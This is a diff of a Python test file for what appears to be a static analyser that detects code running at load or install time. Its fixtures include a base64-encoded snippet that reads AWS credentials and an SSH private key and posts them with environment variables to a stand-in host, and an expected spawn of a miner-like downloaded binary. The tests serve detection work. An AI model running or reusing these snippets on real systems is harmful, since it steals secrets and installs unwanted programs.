@@ -11,7 +11,8 @@ STAGE = (
     "import os, json, urllib.request\n"
     'for place in ["~/.aws/credentials", "~/.ssh/id_rsa"]:\n'
     "    text = open(os.path.expanduser(place)).read()\n"
-    '    urllib.request.urlopen("https://models.invalid/up", data=json.dumps({"env": dict(os.environ), "text": text}).encode())\n'
+    '    urllib.request.urlopen("https://models.invalid/up", data=json.dumps({"env": dict(os.environ), "text": '
+    "text}).encode())\n"
 )
 BLOCK = base64.b64encode(STAGE.encode()).decode()
 
@@ -120,7 +121,7 @@ def test_download_made_executable_and_started() -> None:
     )
 
     assert values(facts, Kind.NET_CONNECT, Moment.LOAD) == ["https://host.invalid/linux", "https://host.invalid/mac"]
-    assert values(facts, Kind.PROCESS_SPAWN, Moment.LOAD) == ["/tmp/runner -o pool.invalid:8080"]  # noqa: S108 - a text
+    assert values(facts, Kind.PROCESS_SPAWN, Moment.LOAD) == ["/tmp/runner -o pool.invalid:8080"]
     assert {(Kind.NET_CONNECT, Kind.FS_WRITE), (Kind.FS_WRITE, Kind.PROCESS_SPAWN)} <= flows(facts)
 
 
@@ -148,7 +149,7 @@ def test_deeper_than_followed_is_a_problem() -> None:
 
 
 def test_setup_commands_run_at_install() -> None:
-    """``run`` of a class given to ``setup(cmdclass=...)`` runs by itself, and so does the main guard of a build script."""
+    """``run`` of a class given to ``setup(cmdclass=...)`` runs by itself; so does the main guard there."""
     facts = read(
         "import os\n"
         "from setuptools import setup\n"
@@ -168,7 +169,7 @@ def test_setup_commands_run_at_install() -> None:
 
 
 def test_moments() -> None:
-    """Bodies of classes, defaults, decorators, threads and exit handlers run at load; functions and the main guard do not."""
+    """Class bodies, defaults, decorators, threads and exit handlers run at load; functions and the main guard do not."""
     facts = read(
         "import atexit, os, threading\n"
         "def later(): os.system('call')\n"
